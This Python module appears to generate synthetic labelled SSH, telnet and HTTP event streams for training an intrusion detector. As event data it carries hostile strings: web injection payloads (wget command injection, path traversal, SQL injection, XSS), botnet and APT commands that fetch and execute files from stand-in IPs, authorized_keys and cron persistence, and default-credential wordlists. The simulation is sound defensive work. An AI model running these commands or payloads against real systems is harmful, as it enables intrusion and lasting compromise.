"""Simulator of labelled attack and benign activity, one source at a time.

Each generator plays one source's activity as normalized events (see features.py), then a
random sliding window (1 min, 5 min or 1 h, ending at a random point of the activity) is cut
out of it, the way the detector sees it. The behaviours follow the earlier service's classes
and the real captures in shared/data/real-logs (Cowrie, OpenSSH):

  normal          a few interactive sessions of a known user: 0-2 typos, a login (password or
                  key), admin commands at human pace, long sessions
  ddos            hundreds to thousands of connect+close pairs within seconds to two minutes
  recon           port scans and banner grabs: 5-80 short probes over 1-30 ports, no login
  brute_force     dictionary guessing: rapid, password-spray and low-and-slow variants,
                  1-6 attempts per connection, almost never succeeds, no commands
  web_attack      HTTP request floods with injection payloads (wget/curl in URLs, path
                  traversal to /etc/passwd) on 80/443/8080, no login
  malware_botnet  IoT/SSH bots: a default credential (Mirai table), fast scripted commands:
                  busybox probing, router-CLI escapes, download + chmod + exec, sometimes after
                  a short brute force
  apt             hands-on intrusion: valid (stolen) credentials, slow deliberate discovery,
                  persistence (authorized_keys, crontab), tool transfer, long sessions

Deterministic given the numpy Generator passed in.
"""

import numpy as np

from features import CLASSES, MIRAI_CREDENTIALS, extract

COMMON_USERS = ["root", "admin", "user", "test", "ubuntu", "oracle", "postgres", "pi", "git", "guest",
                "ftpuser", "support", "ubnt", "mysql", "hadoop", "www", "nagios", "deployer", "centos",
                "ec2-user", "jenkins", "tomcat", "backup", "www-data", "daemon", "administrator"]
COMMON_PASSWORDS = ["123456", "password", "admin", "root", "1234", "12345678", "qwerty", "toor", "111111",
                    "admin123", "test", "test123", "changeme", "raspberry", "12345", "letmein", "welcome",
                    "1qaz@WSX", "P@ssw0rd", "abc123", "passw0rd", "default", "guest", "ubnt", "oracle"]
MIRAI = sorted(MIRAI_CREDENTIALS)
BENIGN_COMMANDS = ["ls", "ls -la", "pwd", "cd /var/www", "git pull", "tail -n 100 /var/log/app.log",
                   "systemctl status nginx", "df -h", "top -bn1", "vim /etc/nginx/nginx.conf", "sudo apt update",
                   "docker ps", "free -m", "cat README.md", "htop", "journalctl -u app", "exit"]
DISCOVERY = ["uname -a", "cat /proc/cpuinfo", "nproc", "cat /etc/passwd", "whoami", "lscpu",
             "cat /proc/meminfo", "cat /proc/mounts"]
APT_MISC = ["id", "ps aux", "netstat -tnlp", "ls -la /home", "history", "ss -tulpn", "cat ~/.bash_history",
            "find / -name '*.pem' 2>/dev/null", "ip a", "last", "w"]
WEB_PATHS = ["/", "/index.php", "/login", "/wp-login.php", "/admin", "/api/v1/users", "/search?q=test",
             "/.env", "/phpmyadmin/", "/cgi-bin/luci"]


class Source:
    """Accumulates one source's events."""

    def __init__(self, rng):
        self.rng = rng
        self.events = []
        self.n_sessions = 0

    def session(self):
        self.n_sessions += 1
        return f"s{self.n_sessions}"

    def add(self, ts, kind, session, **kw):
        self.events.append(dict(ts=float(ts), kind=kind, session=session, **kw))


def _cred(rng, users=COMMON_USERS, passwords=COMMON_PASSWORDS):
    if rng.random() < 0.3:
        u, p = MIRAI[rng.integers(len(MIRAI))]
        return u, p
    return users[rng.integers(len(users))], passwords[rng.integers(len(passwords))]


def normal(rng):
    s = Source(rng)
    user = f"user{rng.integers(50)}"
    port = int(rng.choice([22, 2222]))
    t = 0.0
    horizon = rng.uniform(60, 3600)
    for _ in range(rng.integers(1, 5)):
        sid = s.session()
        s.add(t, "connect", sid, dst_port=port)
        t += rng.uniform(0.2, 2)
        s.add(t, "other", sid, dst_port=port)  # client version
        for _ in range(rng.choice([0, 0, 0, 0, 1, 1, 2])):
            t += rng.uniform(1, 8)
            s.add(t, "login_failed", sid, username=user, password=f"typo{rng.integers(1000)}", dst_port=port)
        t += rng.uniform(1, 8)
        key_auth = rng.random() < 0.3
        s.add(t, "login_success", sid, username=user, password=None if key_auth else "Corr3ct-Horse!", dst_port=port)
        for _ in range(rng.integers(0, 16)):
            t += rng.exponential(20) + 1
            r = rng.random()
            cmd = (DISCOVERY[rng.integers(len(DISCOVERY))] if r < 0.05
                   else "curl -s http://localhost/health" if r < 0.08
                   else BENIGN_COMMANDS[rng.integers(len(BENIGN_COMMANDS))])
            s.add(t, "command", sid, text=cmd, dst_port=port)
        t += rng.uniform(1, 600)
        s.add(t, "closed", sid, dst_port=port)
        t += rng.uniform(0, horizon / 2)
    return s


def ddos(rng):
    s = Source(rng)
    n = int(rng.integers(200, 3000))
    dur = rng.uniform(5, 120)
    ports = rng.choice([80, 443, 22, 2222, 53], size=rng.integers(1, 4), replace=False)
    times = np.sort(rng.uniform(0, dur, n))
    for t in times:
        sid = s.session()
        port = int(ports[rng.integers(len(ports))])
        s.add(t, "connect", sid, dst_port=port)
        if rng.random() < 0.2:
            s.add(t + rng.uniform(0, 0.01), "other", sid, dst_port=port)
        s.add(t + rng.uniform(0.001, 0.05), "closed", sid, dst_port=port)
    return s


def recon(rng):
    s = Source(rng)
    n = int(rng.integers(5, 80))
    dur = rng.uniform(2, 1200)
    n_ports = int(rng.integers(1, 31)) if rng.random() < 0.6 else int(rng.integers(1, 3))
    ports = rng.choice(np.arange(1, 10000), size=n_ports, replace=False)
    for t in np.sort(rng.uniform(0, dur, n)):
        sid = s.session()
        port = int(ports[rng.integers(len(ports))])
        s.add(t, "connect", sid, dst_port=port)
        end = t + rng.uniform(0.001, 0.5)
        if rng.random() < 0.6:
            s.add(t + 0.001, "other", sid, dst_port=port)  # client version
            if rng.random() < 0.5:
                end += rng.uniform(0, 2)
                s.add(end - 0.001, "other", sid, dst_port=port)  # key exchange
        s.add(end, "closed", sid, dst_port=port)
    return s


def brute_force(rng):
    s = Source(rng)
    variant = rng.random()
    port = int(rng.choice([22, 2222, 2022]))
    if variant < 0.5:  # rapid dictionary attack
        attempts, dur = int(rng.integers(6, 400)), rng.uniform(10, 900)
        users = COMMON_USERS
    elif variant < 0.75:  # password spray: few users, many passwords
        attempts, dur = int(rng.integers(15, 200)), rng.uniform(60, 1800)
        users = COMMON_USERS[: rng.integers(1, 5)]
    else:  # low and slow
        attempts, dur = int(rng.integers(4, 12)), rng.uniform(300, 3600)
        users = COMMON_USERS
    times = np.sort(rng.uniform(0, dur, attempts))
    i = 0
    while i < attempts:
        sid = s.session()
        per_conn = int(rng.integers(1, 7))
        s.add(times[i] - rng.uniform(0.05, 1), "connect", sid, dst_port=port)
        s.add(times[i] - 0.02, "other", sid, dst_port=port)
        last = times[i]
        for t in times[i : i + per_conn]:
            u, p = _cred(rng, users)
            s.add(t, "login_failed", sid, username=u, password=p, dst_port=port)
            last = t
        if i + per_conn >= attempts and rng.random() < 0.05:
            s.add(last + 1, "login_success", sid, username="root", password="hunter2", dst_port=port)
        s.add(last + rng.uniform(0.1, 3), "closed", sid, dst_port=port)
        i += per_conn
    return s


def web_attack(rng):
    s = Source(rng)
    n = int(rng.integers(10, 500))
    dur = rng.uniform(10, 1800)
    ports = rng.choice([80, 443, 8080, 8443], size=rng.integers(1, 3), replace=False)
    n_conn = max(1, int(n / rng.uniform(1, 20)))
    sids = [s.session() for _ in range(n_conn)]
    times = np.sort(rng.uniform(0, dur, n))
    opened = set()
    for t in times:
        sid = sids[rng.integers(len(sids))]
        port = int(ports[rng.integers(len(ports))])
        if sid not in opened:
            opened.add(sid)
            s.add(t - 0.01, "connect", sid, dst_port=port)
        r = rng.random()
        if r < 0.15:
            uri = f"/cgi-bin/x.cgi?cmd=;wget http://203.0.113.{rng.integers(255)}/x.sh"
        elif r < 0.35:
            uri = "/download.php?file=../../../../etc/passwd"
        elif r < 0.5:
            uri = "/item?id=1' UNION SELECT username,password FROM users--"
        elif r < 0.6:
            uri = "/search?q=<script>alert(1)</script>"
        else:
            uri = WEB_PATHS[rng.integers(len(WEB_PATHS))]
        s.add(t, "other", sid, text=f"GET {uri}", dst_port=port)
    return s


def malware_botnet(rng):
    s = Source(rng)
    telnet = rng.random() < 0.5
    port = int(rng.choice([23, 2323, 2223])) if telnet else int(rng.choice([22, 2222]))
    t = 0.0
    sid = s.session()
    s.add(t, "connect", sid, dst_port=port)
    if rng.random() < 0.3:  # short brute force first, one connection per guess
        for _ in range(rng.integers(3, 20)):
            t += rng.uniform(0.2, 3)
            u, p = _cred(rng)
            s.add(t, "login_failed", sid, username=u, password=p, dst_port=port)
            s.add(t + 0.1, "closed", sid, dst_port=port)
            sid = s.session()
            t += rng.uniform(0.1, 1)
            s.add(t, "connect", sid, dst_port=port)
    for _ in range(rng.integers(0, 4)):
        t += rng.uniform(0.2, 3)
        u, p = MIRAI[rng.integers(len(MIRAI))]
        s.add(t, "login_failed", sid, username=u, password=p, dst_port=port)
    t += rng.uniform(0.2, 3)
    u, p = MIRAI[rng.integers(len(MIRAI))] if rng.random() < 0.75 else _cred(rng)
    s.add(t, "login_success", sid, username=u, password=p, dst_port=port)
    cmds = []
    if telnet or rng.random() < 0.3:
        cmds += [c for c in ["enable", "system", "shell", "sh"] if rng.random() < 0.8]
        word = "".join(chr(65 + rng.integers(26)) for _ in range(5))
        cmds += [f"/bin/busybox {word}", f"cat /proc/mounts; /bin/busybox {word}"]
    if rng.random() < 0.5:
        cmds += ["uname -a", "cat /proc/cpuinfo"][: rng.integers(1, 3)]
    if rng.random() < 0.7:
        tool = rng.choice(["wget", "curl -O", "tftp -g -r", "ftpget"])
        name = rng.choice(["bot.sh", "mips", "arm7", "x86", ".i"])
        cmds.append(f"{tool} http://198.51.100.{rng.integers(255)}/{name}")
        if rng.random() < 0.8:
            cmds.append(f"chmod +x {name}; ./{name}" if rng.random() < 0.5 else f"chmod 777 {name}")
    if rng.random() < 0.2:
        cmds += ["mkdir -p ~/.ssh", "echo ssh-rsa AAAA... >> ~/.ssh/authorized_keys"]
    if not cmds:
        cmds = ["sh", "/bin/busybox ECCHI"]
    for c in cmds:
        t += rng.uniform(0.1, 4)
        s.add(t, "command", sid, text=c, dst_port=port)
        if "authorized_keys" in c:
            s.add(t + 0.01, "file_download", sid, text="/root/.ssh/authorized_keys", dst_port=port)
    t += rng.uniform(0.1, 5)
    s.add(t, "closed", sid, dst_port=port)
    return s


def apt(rng):
    s = Source(rng)
    port = int(rng.choice([22, 2222]))
    user = str(rng.choice(["deploy", "svc-backup", "jdoe", "root", "ops"]))
    t = 0.0
    for k in range(rng.integers(1, 5)):
        sid = s.session()
        s.add(t, "connect", sid, dst_port=port)
        for _ in range(rng.choice([0, 0, 0, 1, 2])):
            t += rng.uniform(2, 10)
            s.add(t, "login_failed", sid, username=user, password=f"old{rng.integers(99)}", dst_port=port)
        t += rng.uniform(2, 10)
        s.add(t, "login_success", sid, username=user, password=None if rng.random() < 0.4 else "Spring2026!",
              dst_port=port)
        cmds = list(rng.choice(DISCOVERY, size=rng.integers(1, 5), replace=False))
        cmds += list(rng.choice(APT_MISC, size=rng.integers(1, 8), replace=False))
        if rng.random() < 0.5:
            cmds.append(f"curl -sO https://203.0.113.{rng.integers(255)}/tools/agent")
            if rng.random() < 0.6:
                cmds.append("chmod +x agent && ./agent -d")
        if rng.random() < 0.8 and k == 0:
            cmds.append(str(rng.choice(["echo ssh-ed25519 AAAA... >> ~/.ssh/authorized_keys",
                                        "(crontab -l; echo '*/10 * * * * /tmp/.a') | crontab -",
                                        "echo '* * * * * root /tmp/.a' > /etc/cron.d/sync"])))
        rng.shuffle(cmds)
        for c in cmds:
            t += rng.exponential(40) + 3
            s.add(t, "command", sid, text=c, dst_port=port)
        t += rng.uniform(5, 300)
        s.add(t, "closed", sid, dst_port=port)
        t += rng.uniform(60, 1200)
    return s


GENERATORS = [normal, ddos, recon, brute_force, web_attack, malware_botnet, apt]
assert [g.__name__ for g in GENERATORS] == CLASSES


def window(rng, events):
    """Cut a sliding window (1 min, 5 min or 1 h) ending at a random event, as the detector would."""
    length = float(rng.choice([60.0, 300.0, 3600.0], p=[0.3, 0.35, 0.35]))
    ts = sorted(e["ts"] for e in events)
    # Bias the end towards the activity's end: most windows are judged when they close.
    end = ts[-1] if rng.random() < 0.5 else ts[int(rng.integers(len(ts)))]
    return [e for e in events if end - length < e["ts"] <= end]


def sample(rng, label):
    return extract(window(rng, GENERATORS[label](rng).events))


def dataset(n_per_class, seed):
    rng = np.random.default_rng(seed)
    xs, ys = [], []
    for label in range(len(CLASSES)):
        for _ in range(n_per_class):
            xs.append(sample(rng, label))
            ys.append(label)
    return np.asarray(xs, dtype=np.float32), np.asarray(ys, dtype=np.int64)
